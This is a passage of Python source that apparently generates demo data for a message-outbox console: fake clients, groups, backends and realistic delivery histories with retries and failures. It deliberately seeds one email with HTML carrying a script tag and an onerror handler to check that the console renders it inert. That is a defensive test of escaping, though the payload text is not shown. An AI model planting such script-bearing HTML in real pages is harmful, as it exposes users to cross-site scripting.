                "phone": None if rng.random() < 0.06 else phone_number(rng, pattern),
                "country": country,
                "language": language,
                "currency": currency,
                "since_days": rng.randrange(35, 900),
            }
        )
    return roster


def group_roster() -> list[dict]:
    rng = random.Random(20240602)
    cultures = {c[0]: c for c in CULTURES}
    roster = []
    for name, country, place in GROUPS:
        words = ascii_name(name.replace("'s", "s"), german=country == "DE").split()
        slug = "-".join(w for w in words if w not in ("group", "the"))
        pattern = cultures[country][3]
        roster.append(
            {
                "name": name,
                "country": country,
                "place": place,
                "contact_email": f"{slug}@groups.example",
                "contact_phone": phone_number(rng, pattern) if rng.random() < 0.8 else None,
                "since_days": rng.randrange(60, 1500),
                "size": rng.randrange(6, 15),
            }
        )
    return roster


# --- one message's history --------------------------------------------------------------------


@dataclass
class Built:
    """One message ready to insert: its row, attempts and events (each naming the message by
    uid until it has an id), and its place in a resend chain."""

    row: dict
    attempts: list = field(default_factory=list)
    events: list = field(default_factory=list)
    resend_of: str | None = None  # uid
    resolves: list = field(default_factory=list)  # uids of the failures this resend fixed
    keep_id: bool = False  # a later resend will need this one's id


class Life:
    """Writes one message's history as the outbox, the worker and staff would have: each step
    moves the clock, records the Event, and keeps the row's fields as the real code leaves them."""

    def __init__(self, demo: "Demo", row: dict, at: datetime, full: bool):
        self.demo = demo
        self.rng = demo.rng
        self.row = row
        self.at = at
        self.full = full
        self.built = Built(row)
        self.backend = demo.backend_by_id[row["backend"]]
        self.worker = self.rng.choice(demo.workers)
        self.tries = 0  # tries that count against the retry policy
        self.delays: list[float] = []  # retry delays drawn in advance, if any

    def wait(self, seconds: float) -> None:
        self.at += timedelta(seconds=seconds)

    def event(self, to_state: str | None, detail: str, actor=None, action: str = "state"):
        self.built.events.append(
            {
                "created_at": self.at,
                "action": action,
                "message": self.row["uid"],
                "backend": None,
                "actor": actor,
                "from_state": self.row["state"] if to_state else None,
                "to_state": to_state,
                "detail": detail,
            }
        )

    def create(self, state: str, reason: str = "", actor=None) -> "Life":
        """The outbox's create_message (and record_creation)."""
        self.row.update(created_at=self.at, state=None, state_reason=reason)
        self.event(state, reason or "created", actor)
        self.row["state"] = state
        if state == "QUEUED":
            self.row["queued_at"] = self.at
        return self

    def move(self, to_state: str, reason: str, actor=None, **fields) -> None:
        self.event(to_state, reason, actor)
        self.row.update(state=to_state, state_reason=reason, **fields)

    def release(self) -> None:
        """The retry's time came: WAITING back to QUEUED."""
        self.wait(max((self.row["next_attempt_at"] - self.at).total_seconds(), 0))
        self.wait(self.rng.uniform(0.01, 0.3))
        self.move("QUEUED", DUE, queued_at=self.at)

    def send(self, result: DeliveryResult, latency: float | None = None) -> str:
        """A worker claims it, tries once, and settles: the state it ends in."""
        self.wait(self.rng.uniform(0.02, 0.4))
        self.move("SENDING", CLAIMED, lease_owner=self.worker, lease_until=self.at + LEASE)
        started = self.at + timedelta(seconds=self.rng.uniform(0.001, 0.02))
        self.at = started + timedelta(
            seconds=self.demo.latency(self.row["channel"]) if latency is None else latency
        )
        if result.outcome == "unknown":
            return self._recovered(started)
        self.built.attempts.append(self._attempt(started, result))
        self.row["attempts"] += 1
        return self._settle(result)

    def _attempt(self, started: datetime, result: DeliveryResult, worker=None) -> dict:
        return {
            "message": self.row["uid"],
            "number": self.row["attempts"] + 1,
            "started_at": started,
            "finished_at": self.at,
            "outcome": result.outcome,
            "error_type": result.error_type,
            "smtp_code": result.smtp_code,
            "http_status": result.http_status,
            "response": result.response,
            "traceback": None,
            "worker": worker or self.worker,
            "provider_id": result.provider_id,
        }

    def _settle(self, result: DeliveryResult) -> str:
        """worker/delivery.py _settlement() and shared/states.py settle()."""
        name = self.backend.name
        response = result.response
        done = dict(lease_owner=None, lease_until=None, next_attempt_at=None)
        if result.outcome == SENT:
            self.move("SENT", ACCEPTED.format(name=name), sent_at=self.at, **done)
        elif result.outcome == CONFIG:
            self.move(
                "BACKEND_TEST_REQUIRED", HELD_BY_TRY.format(name=name, response=response), **done
            )
        elif result.outcome == INVALID_RECIPIENT:
            self.move("FAILED", NOT_USABLE.format(response=response), **done)
        elif result.outcome == PERMANENT:
            self.move("FAILED", REFUSED.format(response=response), **done)
        else:
            self.tries += 1
            policy = self.demo.policies[self.row["channel"]]
            if next_retry_at(policy, self.tries, self.at) is None:
                self.move("FAILED", GAVE_UP.format(tries=self.tries, response=response), **done)
            else:
                delay = (
                    self.delays.pop(0) if self.delays else self.demo.retry_delay(policy, self.tries)
                )
                retry_at = self.at + timedelta(seconds=delay)
                of = "∞" if policy.max_retries == -1 else policy.max_retries
                reason = RETRY.format(tries=self.tries, response=response, of=of, at=retry_at)
                self.move("WAITING", reason, **dict(done, next_attempt_at=retry_at))
        return self.row["state"]

    def _recovered(self, started: datetime) -> str:
        """The worker died mid-send; the sweep found the expired lease (worker/recovery.py)."""
        self.wait(LEASE.total_seconds() + self.rng.uniform(1, 60))
        unknown = DeliveryResult(
            "unknown", "result unknown: the worker stopped during the send", "WorkerStopped"
        )
        self.built.attempts.append(self._attempt(self.at, unknown, self.row["lease_owner"]))
        self.built.attempts[-1]["started_at"] = self.at
        self.row["attempts"] += 1
        self.tries += 1
        self.move("QUEUED", UNKNOWN, lease_owner=None, lease_until=None, next_attempt_at=None)
        return "QUEUED"

    def deliver(self, results: list[DeliveryResult]) -> str:
        """Send until a result settles it (retrying after transient ones)."""
        state = self.row["state"]
        for result in results:
            if state == "WAITING":
                self.release()
            state = self.send(result)
            if state not in ("WAITING", "QUEUED"):
                break
        return state

    def checks(self, final: str | None, reason: str = "") -> None:
        """The SMS delivery checks after a send: pending until `final` ("DELIVERED", "FAILED"),
        or pending through every poll (final None). Stops at the present."""
        first = self.demo.first_poll
        polls = 1 if final and self.rng.random() < 0.7 else self.rng.randrange(2, 4)
        if final is None:
            polls = POLLS
        for poll in range(1, polls + 1):
            self.wait(first * POLL_BACKOFF ** (poll - 1) + self.rng.uniform(0.01, 0.5))
            if self.at > self.demo.now:
                return
            last = poll == polls and final is not None
            said = reason if last else NOT_CONFIRMED.format(status="sent")
            if self.full or last:
                self.event(None, f"check {poll} of {POLLS}: {said}", action="delivery_check")
        if final:
            self.move(final, reason)

    def cancel(self, staff: User) -> None:
        self.move(
            "CANCELLED", CANCELLED_BY.format(name=staff.name), actor=staff.id, lease_owner=None
        )


# --- the generator ------------------------------------------------------------------------------


class Facts(dict):
    """What a message's text says (amounts, dates, loan numbers...), made up only when its
    template asks for it: str.format_map() calls __missing__ for each one it lacks."""

    def __init__(self, rng: random.Random, at: datetime, sender: User | None, **known):
        super().__init__(org=ORG, org_short=ORG_SHORT, **known)
        self.rng = rng
        self.at = at
        self.sender = sender
        self.language = "en"
        self.currency = "EUR"
        self.per_day = 100  # messages a day, for the daily summaries

    def __missing__(self, key: str):
        rng = self.rng
        if key in ("amount", "installment", "balance", "opening"):
            low, high = AMOUNTS[self.currency]
            amount = round(rng.uniform(low, high), -1 if high > 10_000 else 0)
            balance = amount * rng.uniform(1.5, 12)
            self.update(
                amount=self._money(amount),
                installment=self._money(amount / rng.choice((6, 12))),
                balance=self._money(balance),
                opening=self._money(balance * rng.uniform(0.6, 1.2)),
            )
            return self[key]
        made = self[key] = getattr(self, f"_{key}")()
        return made

    def _due(self):
        return self.at + timedelta(days=self.rng.randrange(3, 10))

    def _date(self):
        return _date(self["due"], self.language)

    def _today(self):
        return _date(self.at, self.language)

    def _month(self):
        return _month(self.at, self.language)

    def _meeting_at(self):
        return f"{self['due']:%Y-%m-%d}T10:00:00Z"

    def _loan(self):
        return f"LN-{self.rng.randrange(100000, 999999)}"

    def _last4(self):
        return f"{self.rng.randrange(10000):04d}"

    def _hour(self):
        return self.rng.choice(["9:00", "10:30", "14:00", "15:30", "16:00"])

    def _days(self):
        return self.rng.randrange(3, 40)

    def _code(self):
        return f"{self.rng.randrange(1000000):06d}"

    def _token(self):
        return f"{self.rng.getrandbits(96):024x}"

    def _staff(self):
        return f"{self.sender.name}\n{ORG}" if self.sender else ORG

    def _staff_first(self):
        return self.sender.name.split()[0] if self.sender else ""

    def _sent(self):
        return f"{round(self.per_day * self.rng.uniform(0.7, 1.2)):,}"

    def _failed(self):
        return round(self.per_day * self.rng.uniform(0.03, 0.09))

    def _money(self, amount: float) -> str:
        return f"{self.currency} {amount:,.2f}"


@dataclass
class Chain:
    kind: str
    plan: list  # plan indexes of its links, oldest first
    uids: list = field(default_factory=list)
    states: list = field(default_factory=list)  # what each link ended as
    original: dict | None = None  # the first link's content, copied by the resends
    good_recipient: str = ""  # the right address, which the last resend uses when it fixes it
    last_recipient: str = ""  # where the newest link went
    staff: User | None = None  # who resends


class Demo:
    """One run of `commlog demo`: the people and backends it needs, then the plan of every
    message (state, channel, time), then each message built and written in order of time."""

    def __init__(self, messages: int, seed: int, progress: Callable | None):
        self.n = messages
        self.rng = random.Random(seed)
        self.progress = progress
        self.now = now()
        self.full = messages <= FULL_HISTORY_UP_TO
        self.pool: dict | None = None if self.full else {}
        self.epoch = self.now - timedelta(days=DAYS)  # plan times count seconds from here
        self.kinds = {
            EMAIL: _weighted(EMAIL_KINDS),
            SMS: _weighted(SMS_KINDS),
            WEBHOOK: _weighted(WEBHOOK_KINDS),
            SCHEDULED_: _weighted(SCHEDULED_KINDS),
        }
        self.counts = Counter()  # messages made, by state
        self.channel_counts = Counter()
        self.attempt_count = self.event_count = 0
        self.auth_error = _auth_refused()
        self.base_url = load_config().base_url
        self.result: dict = {"users_created": [], "backends_created": []}
        self.uids: list[str] = []

    # -- people and backends --

    def ensure_staff(self) -> None:
        existing = {u.email: u for u in User.select().where(User.email.in_([s[0] for s in STAFF]))}
        password = None
        for email, name, role, phone in STAFF:
            if email in existing:
                continue
            password = password or secrets.token_urlsafe(12)
            user = create_user(email, role, password, name)
            user.phone = phone
            user.created_at = self.now - timedelta(days=400 - 40 * len(existing))
            user.save()
            existing[email] = user
            self.result["users_created"].append(email)
        self.result["password"] = password
        self.staff = [existing[s[0]] for s in STAFF]
        self.admin = self.staff[0]
        self.support = self.staff[1:]
        self.result["logins"] = [(u.email, u.role, u.name) for u in self.staff]

    def ensure_clients(self) -> None:
        roster = client_roster()
        names = [c["name"] for c in roster]
        found = {c.name for c in Client.select(Client.name).where(Client.name.in_(names))}
        new = [c for c in roster if c["name"] not in found]
        insert_rows(
            Client,
            [
                {
                    "name": c["name"],
                    "email": c["email"],
                    "phone": c["phone"],
                    "created_at": self.now - timedelta(days=c["since_days"]),
                }
                for c in new
            ],
        )
        self.result["clients_created"] = len(new)
        by_name = {}
        for c in Client.select().where(Client.name.in_(names)).order_by(Client.id.desc()):
            by_name[c.name] = c  # the oldest one wins if a name is there twice
        self.clients = []
        for spec in roster:
            row = by_name[spec["name"]]
            self.clients.append(
                Person(
                    row.id,
                    row.name,
                    spec["first"],
                    _usable("email", row.email),
                    _usable("sms", row.phone),
                    spec["country"],
                    spec["language"],
                    spec["currency"],
                )
            )
        self.clients_with = {
            EMAIL: [c for c in self.clients if c.email],
            SMS: [c for c in self.clients if c.phone],
            WEBHOOK: self.clients,
        }

    def ensure_groups(self) -> None:
        roster = group_roster()
        names = [g["name"] for g in roster]
        found = {g.name for g in Group.select(Group.name).where(Group.name.in_(names))}
        new = [g for g in roster if g["name"] not in found]
        for spec in new:
            Group.create(
                name=spec["name"],
                contact_email=spec["contact_email"],
                contact_phone=spec["contact_phone"],
                created_at=self.now - timedelta(days=spec["since_days"]),
            )
        self.result["groups_created"] = len(new)
        rows = {g.name: g for g in Group.select().where(Group.name.in_(names)).order_by(Group.id)}
        rng = random.Random(20240603)
        members = []
        self.groups = []
        for spec in roster:
            group = rows[spec["name"]]
            local = [c for c in self.clients if c.country == spec["country"]]
            others = [c for c in self.clients if c.country != spec["country"]]
            chosen = rng.sample(local, min(len(local), spec["size"]))
            chosen += rng.sample(others, spec["size"] - len(chosen))
            if spec in new:
                members += [{"group": group.id, "client": c.id} for c in chosen]
            country = next(c for c in CULTURES if c[0] == spec["country"])
            self.groups.append(
                {
                    "id": group.id,
                    "name": group.name,
                    "email": _usable("email", group.contact_email),
                    "phone": _usable("sms", group.contact_phone),
                    "place": spec["place"],
                    "members": len(chosen),
                    "language": "en",
                    "currency": country[2],
                }
            )
        for start in range(0, len(members), 500):
            GroupMember.insert_many(members[start : start + 500]).on_conflict_ignore().execute()
        self.groups_with = {
            EMAIL: [g for g in self.groups if g["email"]],
            SMS: [g for g in self.groups if g["phone"]],
            WEBHOOK: self.groups,
        }

    def ensure_backends(self) -> None:
        specs = [
            (OFFICE_MAIL, "email", "smtp://127.0.0.1:8025"),
            (
                BULK_SMS,
                "sms",
                "https://sms.demo.example/v1/messages?token=demo-token"
                "&status_url=https://sms.demo.example/v1/messages/{id}",
            ),
            (
                PARTNER_WEBHOOKS,
                "webhook",
                f"https://hooks.demo.example/?secret={secrets.token_hex(16)}",
            ),
            (
                OLD_RELAY,
                "email",
                "smtp://statements:expired-password@relay.oldmail.example:587?tls=starttls",
            ),
        ]
        since = self.now - timedelta(days=DAYS + 10)
        self.backends = {}
        for name, channel, url in specs:
            backend = Backend.get_or_none(Backend.name == name)
            if backend is None:
                # the channel's default only if it has none yet (never taken from another)
                backend = add_backend(
                    name, channel, url, alert_emails=(ADMIN_EMAIL,), actor=self.admin
                )
                Backend.update(
                    created_at=since,
                    health="OK",
                    health_since=since,
                    last_test_at=self.now - timedelta(seconds=40),
                ).where(Backend.id == backend.id).execute()
                Event.update(created_at=since).where(
                    Event.backend == backend.id, Event.action == "backend_added"
                ).execute()
                self._health_checks(backend, ok=name != OLD_RELAY)
                self.result["backends_created"].append(name)
                backend = Backend.get_by_id(backend.id)
            self.backends[name] = backend
        self.backend_by_id = {b.id: b for b in self.backends.values()}
        try:
            self.first_poll = first_poll_after(self.backends[BULK_SMS])
        except ValueError:  # its URL was edited into something unusable: the default
            self.first_poll = 15.0
        self._hold_old_relay()

    def _health_checks(self, backend: Backend, ok: bool) -> None:
        """The last few periodic checks, as test_backend() records them (shared/health.py)."""
        words = {
            "email": "Connected to 127.0.0.1:8025 without TLS.",
            "sms": "The provider answered (200).",
            "webhook": "The signing settings are valid; each receiver is tried when a message "
            "goes to it.",
        }[backend.channel]
        checks, events = [], []
        for minutes in (3, 2, 1):
            at = self.now - timedelta(minutes=minutes, seconds=self.rng.random())
            detail = words if ok else self.auth_error.response
            checks.append(
                {
                    "backend": backend.id,
                    "checked_at": at,
                    "ok": ok,
                    "outcome": "sent" if ok else "config_error",
                    "detail": detail,
                    "duration_ms": self.rng.randrange(40, 400),
                }
            )
            events.append(
                {
                    "created_at": at,
                    "action": "backend_tested",
                    "backend": backend.id,
                    "detail": f"{'passed' if ok else 'failed'}: {detail}",
                }
            )
        insert_rows(HealthCheck, checks)
        insert_rows(Event, events)

    def _hold_old_relay(self) -> None:
        """The Old relay's password was refused about a day ago: it is TEST_REQUIRED with an
        open incident, and its messages since are held. A second run keeps that incident."""
        relay = self.backends[OLD_RELAY]
        self.incident_start = None
        self.first_held = OLD_RELAY in self.result["backends_created"]
        if self.first_held:
            start = self.now - timedelta(hours=26, minutes=self.rng.randrange(60))
            error = self.auth_error.response
            Backend.update(health="TEST_REQUIRED", health_since=start, last_error=error).where(
                Backend.id == relay.id
            ).execute()
            Event.create(
                created_at=start,
                action="backend_health",
                backend=relay,
                detail=f"needs a test: {error}",
            )
            Incident.create(
                backend=relay,
                health="TEST_REQUIRED",
                started_at=start,
                first_error=error,
                alert_sent_at=start + timedelta(seconds=2),
            )
            self.incident_start = start
        elif relay.health == "TEST_REQUIRED":
            incident = (
                Incident.select()
                .where(Incident.backend == relay.id, Incident.ended_at.is_null())
                .order_by(Incident.started_at.desc())
                .first()
            )
            self.incident_start = incident.started_at if incident else relay.health_since

    # -- planning --

    def plan(self) -> None:
        """Decide every message's state, channel and time; resend chains link some of them."""
        n, rng = self.n, self.rng
        small = min(n / 200, 1)  # below 200 messages, the minimums shrink

        def share(fraction, least, most):
            return min(max(round(n * fraction), int(least * small)), most)

        counts = {
            QUEUED_: share(0.004, 6, 1500),
            SENDING_: share(0.001, 3, 60),
            RETRYING_: share(0.003, 4, 600),
            SCHEDULED_: share(0.004, 4, 1500),
            HELD_: share(0.006, 10, 3000) if self.incident_start else 0,
        }
        chains = share(0.006, 4, 6000)
        kinds = list(CHAIN_KINDS)
        chain_kinds = kinds[:chains] + rng.choices(
            kinds, [CHAIN_WEIGHTS[k] for k in kinds], k=max(chains - len(kinds), 0)
        )
        resends = sum(len(CHAIN_KINDS[k]) - 1 for k in chain_kinds)
        alerts = 1 if self.first_held else 0
        if sum(counts.values()) + resends + alerts > n:  # a tiny demo: no extras
            counts = dict.fromkeys(counts, 0)
            chain_kinds, resends, alerts = [], 0, 0
        regular = n - sum(counts.values()) - resends - alerts
        end = self.now - RECENT
        start = self.now - timedelta(days=DAYS)

        states = bytearray()
        for code, fraction in FINISHED_MIX:
            states += bytes([code]) * round(regular * fraction / sum(f for _, f in FINISHED_MIX))
        states = states[:regular]
        states += bytes([SENT_]) * (regular - len(states))
        for code, count in counts.items():
            states += bytes([code]) * count
        times = array("d", self.busy_times(regular, start, end))
        for code, count in counts.items():
            for _ in range(count):
                if code == SCHEDULED_:
                    low = max(start, end - timedelta(days=3))
                elif code == HELD_:
                    low = self.incident_start + timedelta(seconds=5)
                else:  # the recent ones get their exact times when they are built
                    low = end
                times.append(
                    self._seconds(low) + rng.random() * (self._seconds(end) - self._seconds(low))
                )
        channels = bytearray(rng.choices(range(3), CHANNEL_MIX[s])[0] for s in states)
        self.special: dict[int, tuple] = {}

        # the chains' originals: older finished messages, turned into what their chain needs
        old = self._seconds(end - timedelta(days=2))
        sample = rng.sample(range(regular), min(regular, 3 * len(chain_kinds) + 50))
        candidates = [i for i in sample if times[i] < old]
        for kind, original in zip(chain_kinds, candidates, strict=False):
            links = CHAIN_KINDS[kind]
            chain = Chain(kind, [original])
            states[original], channels[original] = links[0], CHAIN_CHANNEL[kind]
            at = times[original]
            for state in links[1:]:
                at = min(at + rng.uniform(1, 30) * 3600, self._seconds(end))
                chain.plan.append(len(states))
                states.append(state)
                channels.append(CHAIN_CHANNEL[kind])
                times.append(at)
            for position, index in enumerate(chain.plan):
                self.special[index] = ("chain", chain, position)
        # the newest sent email carries a script in its HTML: the console must show it inert
        pool = [i for i in range(regular) if states[i] == SENT_ and i not in self.special]
        pick = max(pool, key=times.__getitem__, default=None)
        if pick is not None:
            channels[pick] = EMAIL
            self.special[pick] = ("xss",)
        if alerts:
            self.special[len(states)] = ("alert",)
            states.append(SENT_)
            channels.append(EMAIL)
            times.append(self._seconds(self.incident_start) + 2)
        self.held_count = counts[HELD_]
        if counts[HELD_] and self.first_held:
            # the batch that met the refusal: the first try got the 535, the rest were held
            base = self._seconds(self.incident_start) - 1
            held = [i for i in range(regular, len(states)) if states[i] == HELD_][:3]
            for k, i in enumerate(held):
                times[i] = base + 0.05 * k
                self.special[i] = ("held_batch", k)
        self.states, self.channels, self.times = states, channels, times

    def busy_times(self, count: int, start: datetime, end: datetime) -> list[float]:
        """`count` moments between start and end, busier in the working day than at night."""
        hours = int((end - start).total_seconds() // 3600)
        weights = []
        for h in range(hours):
            at = start + timedelta(hours=h)
            weights.append(HOUR_WEIGHTS[at.hour] * WEEKDAY_WEIGHTS[at.weekday()])
        rng = self.rng
        picked = rng.choices(range(hours), cum_weights=list(accumulate(weights)), k=count)
        return [(h + rng.random()) * 3600 for h in picked]

    def _seconds(self, at: datetime) -> float:
        return (at - self.epoch).total_seconds()

    def _time(self, seconds: float) -> datetime:
        return self.epoch + timedelta(seconds=seconds)

    # -- building messages --

    def latency(self, channel: str) -> float:
        low, high = LATENCY[channel]
        return self.rng.uniform(low, high)

    def retry_delay(self, policy, retry_number: int) -> float:
        return retry_delay(policy, retry_number, self.rng)

    def build(self, index: int) -> Built:
        """The planned message `index`, with its whole history."""
        code, channel = self.states[index], self.channels[index]
        at = self._time(self.times[index])
        special = self.special.get(index)
        if special and special[0] == "chain":
            return self.build_link(special[1], special[2], at)
        if special and special[0] == "alert":
            return self.build_alert(at)
        row = self.content(channel, code, at, xss=bool(special and special[0] == "xss"))
        life = Life(self, row, at, self.full)
        if special and special[0] == "held_batch":
            self.lifecycle_held_batch(life, special[1])
        else:
            self.lifecycle(life, code)
        return life.built

    def new_uid(self) -> str:
        """A uid as new_uid() makes them (32 random hex digits), from a block of random bytes:
        each os.urandom() call lets the writer thread take the GIL, which held the builder up
        for a third of a millisecond per message."""
        if not self.uids:
            block = os.urandom(16 * UID_BLOCK).hex()
            self.uids = [block[i : i + 32] for i in range(0, len(block), 32)]
        return self.uids.pop()

    def message_row(self, channel: int, recipient: str, backend: Backend, **fields) -> dict:
        row = {
            "uid": self.new_uid(),
            "channel": CHANNELS[channel],
            "recipient": recipient,
            "subject": "",
            "body_text": "",
            "body_html": None,
            "body_html_text": "",
            "kind": "manual",
            "language": None,
            "sender": None,
            "client": None,
            "group": None,
            "user": None,
            "backend": backend.id,
            "state": None,
            "state_reason": "",
            "attempts": 0,
            "next_attempt_at": None,
            "created_at": None,
            "queued_at": None,
            "sent_at": None,
            "lease_owner": None,
            "lease_until": None,
            "resend_of": None,
            "resolved_by": None,
            "api_token": None,
            "idempotency_key": None,
        }
        row.update(fields)
        row["body_html_text"] = html_text(row["body_html"])
        if isinstance(row.get("metadata", {}), dict):  # (a resend's copy is converted already)
            row["metadata"] = json_value(row.get("metadata") or {})
        return row

    def content(
        self, channel: int, code: int, at: datetime, xss: bool = False, relay: bool = True
    ) -> dict:
        """Whom a message is for and what it says (`relay`: it may go through the Old relay)."""
        rng = self.rng
        held = code == HELD_ or (
            code == CANCELLED_
            and channel == EMAIL
            and not self.statements_ok(at)
            and rng.random() < 0.5
        )
        if held or (xss and channel == EMAIL):
            kind, audience = ("manual", "client") if xss else ("account.statement_ready", "client")
        elif code in (SCHEDULED_, CANCELLED_) and channel != WEBHOOK:
            kind, audience = _pick(rng, self.kinds[SCHEDULED_])
        else:
            kind, audience = _pick(rng, self.kinds[channel])
        if (
            kind == "account.statement_ready"
            and not held
            and not (relay and self.statements_ok(at))
        ):
            kind = "savings.deposit_received"
        backend = self.backends[
            OLD_RELAY
            if kind == "account.statement_ready"
            else (OFFICE_MAIL, BULK_SMS, PARTNER_WEBHOOKS)[channel]
        ]
        if self.pool is not None and not xss:
            # a big run renders a few texts per kind and day, and reuses them
            key = (channel, kind, audience, int(self._seconds(at) // 86_400))
            texts = self.pool.setdefault(key, [])
            if len(texts) < POOL_TEXTS:
                row = self.render(channel, kind, audience, backend, at, xss)
                texts.append(dict(row))  # as made: the message's history changes its own copy
                return row
            return dict(rng.choice(texts), uid=self.new_uid())
        return self.render(channel, kind, audience, backend, at, xss)

    def render(
        self, channel: int, kind: str, audience: str, backend: Backend, at: datetime, xss: bool
    ) -> dict:
        """A message of this kind for someone of this audience, with its text written out."""
        rng = self.rng
        sender = rng.choice(self.support) if kind == "manual" else None
        if xss:
            sender = self.support[0]
        facts = Facts(rng, at, sender, console=self.base_url)
        facts.per_day = max(self.n // DAYS, 1)
        target: dict = {}
        if audience == "group" and self.groups_with[channel]:
            group = rng.choice(self.groups_with[channel])
            facts.update(group=group["name"], place=group["place"], members=group["members"])
            facts.update(name=group["name"], first="")
            facts.currency = group["currency"]
            recipient = (group["email"], group["phone"], PARTNER_URLS)[channel]
            language, target = "en", {"group": group["id"]}
        elif audience == "user":
            user = rng.choice(self.staff)
            facts.update(first=user.name.split()[0], name=user.name)
            recipient = user.email
            language, target = "en", {"user": user.id}
        else:
            client = rng.choice(self.clients_with[channel])
            facts.update(first=client.first, name=client.name)
            facts.currency = client.currency
            recipient = (client.email, client.phone, PARTNER_URLS)[channel]
            language, target = client.language, {"client": client.id}
        if channel == WEBHOOK:
            recipient = rng.choice(PARTNER_URLS)
            subject, text, html = self.webhook_text(kind, target, facts, at)
            language = None
        elif kind == "manual":
            manual = MANUAL_TO_GROUPS if "group" in target else MANUAL_TO_CLIENTS
            subject, text, sms = rng.choice(manual)
            subject, text, html = _fill(subject, facts), _fill(text, facts), None
            if channel == SMS:
                subject, text = "", _fill(sms, facts)
            if xss:
                subject = "Savings tips for the rainy season"
                text = _fill(
                    "Dear {first},\n\nHere are our savings tips for the rainy season: put a "
                    "little aside every market day, and keep it in your group, not under the "
                    "mattress.\n\nBest regards,\n{staff}",
                    facts,
                )
                html = _fill(XSS_HTML, facts)
            language = "en"
        else:
            templates = TEMPLATES[kind]
            if language not in templates:
                language = "en"
            facts.language = language
            subject, text, sms = templates[language]
            subject, text = _fill(subject, facts), _fill(text, facts)
            html = _html(subject, text) if kind in HTML_KINDS and channel == EMAIL else None
            if channel == SMS:
                subject, text = "", _fill(sms, facts)
        metadata = {"loan_id": facts["loan"]} if kind.startswith("loan.") else {}
        if xss:
            metadata = {
                "note": "This HTML contains a <script> and an onerror= handler on "
                "purpose: the console must show it without running them."
            }
        return self.message_row(
            channel,
            recipient,
            backend,
            subject=subject,
            body_text=text,
            body_html=html,
            kind=kind,
            language=language,
            sender=sender.id if sender else None,
            metadata=metadata,
            **target,
        )

    def statements_ok(self, at: datetime) -> bool:
        """Statements go through the Old relay: fine before its password was refused."""
        return self.incident_start is None or at < self.incident_start

    def webhook_text(self, kind: str, target: dict, facts: "Facts", at: datetime):
        about = (
            f'"group_id": {target["group"]}'
            if "group" in target
            else f'"client_id": {target["client"]}'
        )
        detail = _fill(WEBHOOK_DETAILS[kind], facts)
        body = (
            f'{{"id": "evt_{self.rng.getrandbits(64):016x}", "event": "{kind}", '
            f'"occurred_at": "{at:%Y-%m-%dT%H:%M:%SZ}", {about}, {detail}}}'
        )
        return f"{kind}: {facts['name']}", body, None

    def lifecycle(self, life: Life, code: int) -> None:
        """The history that ends in the planned state."""
        rng, row = self.rng, life.row
        channel = row["channel"]
        if code == NOT_SENT_:
            row["recipient"] = _unusable(rng, channel, row["recipient"])
            life.create(
                "NOT_SENT", recipient_problem(channel, row["recipient"]), actor=row["sender"]
            )
        elif code in (SENT_, DELIVERED_):
            self.lifecycle_sent(life, final="DELIVERED" if code == DELIVERED_ else None)
        elif code == FAILED_:
            self.lifecycle_failed(life)
        elif code == CANCELLED_:
            self.lifecycle_cancelled(life)
        elif code == SCHEDULED_:
            send_at = _morning(self.now + timedelta(days=rng.randrange(0, 3)))
            if send_at <= self.now:
                send_at += timedelta(days=1)
            life.create("WAITING", "scheduled", actor=row["sender"])
            row["next_attempt_at"] = send_at
        elif code == HELD_:
            life.create("BACKEND_TEST_REQUIRED", HELD_REASON.format(name=OLD_RELAY))
        elif code == QUEUED_:
            life.at = self.now - timedelta(seconds=rng.uniform(1, 90))
            life.create("QUEUED", actor=row["sender"])
        elif code == SENDING_:
            life.at = self.now - timedelta(seconds=rng.uniform(2, 20))
            life.create("QUEUED", actor=row["sender"])
            life.wait(rng.uniform(0.05, 1))
            life.move("SENDING", CLAIMED, lease_owner=self.lease_owner, lease_until=life.at + LEASE)
        elif code == RETRYING_:
            self.lifecycle_retrying(life)

    def room(self, life: Life, channel: str, retries: int) -> None:
        """Start early enough that `retries` retries still end before the present (a long
        retry policy can take hours)."""
        if not retries:
            return  # everything but the recent messages ended minutes ago at the latest
        policy = self.policies[channel]
        span = sum(retry_delay(policy, n, _MOST) for n in range(1, retries + 1)) + 2 * retries
        latest = self.now - timedelta(seconds=span + 2)
        if life.at > latest:
            life.at = latest

    def lifecycle_sent(self, life: Life, final: str | None, at_once: bool = False) -> None:
        """Sent (mostly at once, sometimes after a failed try or two; a reminder made at night
        waits for the morning unless `at_once`); an SMS is then checked until `final`
        (DELIVERED) or through every poll (None: it stays SENT)."""
        rng, row = self.rng, life.row
        channel = row["channel"]
        results = []
        roll = rng.random()
        if roll < 0.04:
            results.append(self.transient(channel))
            if roll < 0.01:
                results.append(self.transient(channel))
        elif roll < 0.041 and life.at < self.now - timedelta(hours=1):
            results.append(DeliveryResult("unknown"))  # its worker died mid-send
        if (
            not at_once
            and row["kind"] in ("group.meeting_reminder", "loan.repayment_due")
            and life.at.hour < 7
            and _morning(life.at) < self.now - RECENT
            and rng.random() < 0.5
        ):
            # made at night, scheduled for the morning
            life.create("WAITING", "scheduled", actor=row["sender"])
            row["next_attempt_at"] = _morning(life.at)
        else:
            self.room(life, channel, len(results))
            life.create("QUEUED", actor=row["sender"])
        life.deliver([*results, self.success(channel)])
        if row["state"] == "SENT" and channel == "sms":
            life.checks(final, CONFIRMED)

    def lifecycle_failed(self, life: Life, how: str | None = None) -> None:
        rng, row = self.rng, life.row
        channel = row["channel"]
        policy = self.policies[channel]
        can_give_up = policy.max_retries != -1
        how = (
            how
            or rng.choices(
                ("refused", "gave_up", "report"),
                {"email": (0.7, 0.3, 0), "sms": (0.35, 0.3, 0.35), "webhook": (0.4, 0.6, 0)}[
                    channel
                ],
            )[0]
        )
        if how == "gave_up" and not can_give_up:
            how = "refused"
        if how == "gave_up":
            self.room(life, channel, policy.max_retries)
        life.create("QUEUED", actor=row["sender"])
        if how == "report":
            life.deliver([self.success(channel)])
            word, detail = rng.choice(SMS_REPORTS)
            reason = f"The provider reports the message as {word}" + (
                f": {detail}" if detail else "."
            )
            life.checks("FAILED", reason)
        elif how == "gave_up":
            failure = self.transient(channel)
            life.deliver([failure] * (policy.max_retries + 1))
        else:
            if how == "bounce":
                row["recipient"] = _mistyped(rng, row["recipient"])
            life.deliver([self.refusal(channel, row["recipient"], bounce=how == "bounce")])

    def lifecycle_cancelled(self, life: Life) -> None:
        """Stopped by a staff member: a scheduled message, or one held for the Old relay."""
        rng, row = self.rng, life.row
        staff = rng.choice(self.staff)
        if row["backend"] == self.backends[OLD_RELAY].id and not self.statements_ok(life.at):
